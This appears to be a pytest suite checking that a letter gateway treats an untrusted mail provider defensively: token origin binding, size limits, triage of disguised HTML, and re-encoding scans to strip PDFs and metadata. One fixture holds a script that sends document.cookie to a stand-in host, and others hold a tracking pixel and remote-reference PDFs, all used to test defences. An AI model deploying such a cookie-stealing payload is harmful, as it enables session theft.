"""The provider is not trusted: its token goes only to its own origin, reply pages from
elsewhere are refused, every answer is size-limited, and a "scan" reaches a writer only as
an image we re-encoded. Anything else ends in reply triage with a reason. A hostile
service over real HTTP; forwards go through the real outbox into an SMTP sink."""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from PIL import Image
from sqlalchemy import select
from urllib3.exceptions import HostChangedError

from gateway.config import Settings
from gateway.models import Letter, OutboundMail, Reply, ReplyPage
from gateway.pipeline.outbox import send_pending
from gateway.providers.base import TransientError
from gateway.providers.http import HttpProvider
from gateway.replies.intake import poll_mailbox, poll_provider
from gateway.states import LetterState as S
from tests.privacy.hostile import HostileProvider, elsewhere, pdf_with_remote_references
from tests.providers.conftest import SECRET, make_letter

pytestmark = pytest.mark.privacy

TOKEN = "hostile-provider-token-7f3a"
WRITER = "anna@example.org"
NUMBER = "FP-2026-000777"


@pytest.fixture
def hostile() -> Iterator[HostileProvider]:
    with HostileProvider(TOKEN) as server:
        yield server


@pytest.fixture
def beacon():
    with elsewhere() as server:
        yield server


@pytest.fixture
def settings(sessions, hostile, smtp_sink, tmp_path) -> Settings:
    url = str(sessions.kw["bind"].url)
    return Settings(database_url=url, provider_url=hostile.url, provider_token=TOKEN,
                    provider_timeout=5.0, secret_key=SECRET, smtp_host=smtp_sink.host,
                    smtp_port=smtp_sink.port, smtp_timeout=5.0,
                    provider_max_scan_bytes=2 * 1024 * 1024, _env_file=None)


@pytest.fixture
def letter_id(sessions) -> int:
    with sessions() as session:
        letter = make_letter(session, state=S.SUBMITTED, writer=WRITER)
        letter.provider_number = NUMBER
        session.commit()
        return letter.id


def _poll(sessions, settings) -> list[int]:
    provider = HttpProvider.from_settings(settings)
    try:
        mail = poll_provider(sessions, provider, settings)
    finally:
        provider.close()
    if mail:
        assert send_pending(sessions, settings, mail)["sent"] == len(mail)
    return mail


def _the_reply(sessions) -> Reply:
    with sessions() as session:
        [reply] = session.scalars(select(Reply)).all()
        return reply


def _to_writer(sink):
    return [m for m in sink.messages if WRITER in m.rcpt_tos]


def _assert_in_triage(sessions, sink, why: str) -> Reply:
    reply = _the_reply(sessions)
    assert reply.state == "UNMATCHED" and why in reply.note, reply.note
    with sessions() as session:
        assert session.scalars(select(OutboundMail).where(OutboundMail.kind == "reply")).all() == []
    assert _to_writer(sink) == []
    return reply


def test_the_token_goes_only_to_the_providers_origin(settings, hostile, beacon):
    provider = HttpProvider.from_settings(settings)
    try:
        provider.replies(None)
        # The adapter's connections are bound to the provider's origin: even a request for
        # another origin made through them by mistake is refused before it leaves.
        with pytest.raises(HostChangedError):
            provider.pool.urlopen("GET", beacon.url + "/collect")
    finally:
        provider.close()
    assert hostile.seen == [("/v1/replies", f"Bearer {TOKEN}")]
    assert beacon.seen == []


def test_the_token_never_travels_in_plain_text_to_another_host():
    with pytest.raises(ValueError, match="without TLS"):
        HttpProvider("http://relay.example.org", TOKEN)
    HttpProvider("https://relay.example.org", TOKEN).close()
    HttpProvider("http://localhost:8025", TOKEN).close()  # the simulator, the demo


@pytest.mark.parametrize("listing", [b"<html>maintenance</html>", b'{"replies": [{"n": 1}]}',
                                     b'{"replies": "x"}'])
def test_a_malformed_answer_is_a_provider_failure_not_a_crash(settings, hostile, listing):
    """A poll catches ProviderError and goes on (the reply mailbox is polled next)."""
    hostile.listing = listing
    provider = HttpProvider.from_settings(settings)
    try:
        with pytest.raises(TransientError, match="malformed"):
            provider.replies(None)
    finally:
        provider.close()


@pytest.mark.parametrize("scheme_relative", [False, True], ids=["absolute", "scheme-relative"])
def test_a_reply_page_on_another_origin_is_refused(sessions, settings, hostile, beacon,
                                                   smtp_sink, letter_id, scheme_relative):
    url = beacon.url + "/scan.jpg"
    hostile.add_reply("R-1", NUMBER, (url[5:] if scheme_relative else url, "image/jpeg"))
    assert _poll(sessions, settings) == []
    assert beacon.seen == []  # not fetched at all, so neither the token nor our IP went there
    reply = _assert_in_triage(sessions, smtp_sink, "another origin")
    assert reply.suggested_letter_id == letter_id  # a person can still match it


@pytest.mark.parametrize("declared_length", [False, True], ids=["chunked", "content-length"])
def test_a_50_mb_page_is_not_read_past_the_limit(sessions, settings, hostile, smtp_sink,
                                                 letter_id, declared_length):
    fifty_mb = 50 * 1024 * 1024
    if declared_length:
        hostile.pages["big"] = ("image/jpeg", b"\xff\xd8\xff" + b"\0" * (fifty_mb - 3))
    else:
        hostile.pages["big"] = ("image/jpeg",
                                lambda: (b"\xff" * 65536 for _ in range(fifty_mb // 65536)))
    hostile.add_reply("R-1", NUMBER, ("/pages/big", "image/jpeg"))
    assert _poll(sessions, settings) == []
    _assert_in_triage(sessions, smtp_sink, "too large")
    assert hostile.sent_bytes < 10 * 1024 * 1024  # it stopped reading (limit: 2 MB)


def test_an_html_scan_goes_to_triage(sessions, settings, hostile, smtp_sink, letter_id):
    hostile.pages["p1"] = ("image/jpeg", b"<!DOCTYPE html><html><body><img "
                                         b"src='https://tracker.example/p.gif'></body></html>")
    hostile.add_reply("R-1", NUMBER, ("/pages/p1", "image/jpeg"))
    assert _poll(sessions, settings) == []
    _assert_in_triage(sessions, smtp_sink, "looks like: HTML")
    with sessions() as session:
        assert session.scalars(select(ReplyPage)).all() == []  # nothing of it was kept


def test_a_pdf_with_remote_references_reaches_the_writer_only_as_pixels(
        sessions, settings, hostile, beacon, smtp_sink, letter_id):
    hostile.pages["p1"] = ("application/pdf", pdf_with_remote_references(beacon.url))
    hostile.add_reply("R-1", NUMBER, ("/pages/p1", "application/pdf"))
    assert len(_poll(sessions, settings)) == 1
    assert _the_reply(sessions).state == "FORWARDED"
    [mail] = _to_writer(smtp_sink)
    [scan] = list(mail.message.iter_attachments())
    data = scan.get_payload(decode=True)
    assert scan.get_content_type() == "image/jpeg" and data[:3] == b"\xff\xd8\xff"
    assert b"%PDF" not in mail.raw and beacon.url.encode() not in mail.raw
    assert b"/URI" not in data
    image = Image.open(io.BytesIO(data))
    assert image.format == "JPEG" and image.width > 500 and not image.getexif()
    assert beacon.seen == []
    with sessions() as session:
        assert session.get(Letter, letter_id).state == S.DELIVERED


def test_a_scanned_jpeg_loses_its_metadata(sessions, settings, hostile, smtp_sink, letter_id):
    photo = Image.new("RGB", (800, 1100), (240, 240, 230))
    exif = Image.Exif()
    exif[0x010F] = "PrisonScanner 3000"  # Make
    exif[0x8825] = {2: (55.0, 45.0, 0.0)}  # GPS latitude
    raw = io.BytesIO()
    photo.save(raw, "JPEG", exif=exif, comment=b"tracking-id-42")
    assert b"PrisonScanner" in raw.getvalue() and b"tracking-id-42" in raw.getvalue()
    hostile.pages["p1"] = ("application/octet-stream", raw.getvalue())
    hostile.add_reply("R-1", NUMBER, ("/pages/p1", "application/octet-stream"))
    assert len(_poll(sessions, settings)) == 1
    [mail] = _to_writer(smtp_sink)
    [scan] = list(mail.message.iter_attachments())
    data = scan.get_payload(decode=True)
    assert b"PrisonScanner" not in data and b"tracking-id-42" not in data
    assert not Image.open(io.BytesIO(data)).getexif()


def test_a_reply_of_too_many_files_goes_to_triage_unread(sessions, settings, hostile,
                                                        smtp_sink, letter_id):
    settings = settings.model_copy(update={"scan_max_pages": 3})
    hostile.pages["p"] = ("image/jpeg", b"\xff\xd8\xff not even a jpeg")
    hostile.add_reply("R-1", NUMBER, *[("/pages/p", "image/jpeg")] * 4)
    assert _poll(sessions, settings) == []
    _assert_in_triage(sessions, smtp_sink, "4 files (at most 3 pages a reply)")


def test_an_html_scan_by_email_goes_to_triage(sessions, settings, mailboxes, smtp_sink,
                                              letter_id):
    from email.message import EmailMessage

    from gateway.pipeline.intake import Mailbox
    msg = EmailMessage()
    msg["From"], msg["To"] = "service@fsin.example", "replies@gateway.local"
    msg["Subject"], msg["Message-ID"] = f"Ответ на письмо {NUMBER}", "<r1@fsin.example>"
    msg.set_content(f"Ответ на письмо {NUMBER}")
    msg.add_attachment(b"<html><script>fetch('https://t.example/'+document.cookie)</script>",
                       maintype="image", subtype="jpeg", filename="scan.jpg")
    mailboxes.append("replies", msg.as_bytes())
    mailbox = Mailbox(mailboxes.host, mailboxes.port, "replies", "secret")
    assert poll_mailbox(sessions, mailbox, settings) == []
    _assert_in_triage(sessions, smtp_sink, "looks like: HTML")


def test_a_scan_reader_killed_mid_scan_sends_that_reply_to_triage_and_the_next_is_read(
        sessions, settings, hostile, smtp_sink, letter_id, monkeypatch, tmp_path):
    from gateway.replies import scan_safety
    with sessions() as session:
        other = make_letter(session, state=S.SUBMITTED, writer="boris@example.org")
        other.provider_number = "FP-2026-000778"
        session.commit()
    # Readers started from here on die at their first scan, once (the marker file).
    monkeypatch.setattr(scan_safety, "_readers", {})
    monkeypatch.setenv("GATEWAY_CRASH_AT", "replies.scan_child")
    monkeypatch.setenv("GATEWAY_CRASH_MARKER", str(tmp_path / "crashed-once"))
    page = io.BytesIO()
    Image.new("RGB", (800, 1100), (240, 240, 230)).save(page, "JPEG")
    hostile.pages["p1"] = ("image/jpeg", page.getvalue())
    hostile.add_reply("R-1", NUMBER, ("/pages/p1", "image/jpeg"))
    hostile.add_reply("R-2", "FP-2026-000778", ("/pages/p1", "image/jpeg"))
    try:
        assert len(_poll(sessions, settings)) == 1
    finally:
        for reader in scan_safety._readers.values():
            reader.close()
    with sessions() as session:
        first, second = session.scalars(select(Reply).order_by(Reply.id)).all()
    assert first.state == "UNMATCHED" and "failed within the limits (exit 137)" in first.note
    assert second.state == "FORWARDED" and second.letter_id == other.id
    assert _to_writer(smtp_sink) == []
    assert [m.rcpt_tos for m in smtp_sink.messages] == [["boris@example.org"]]
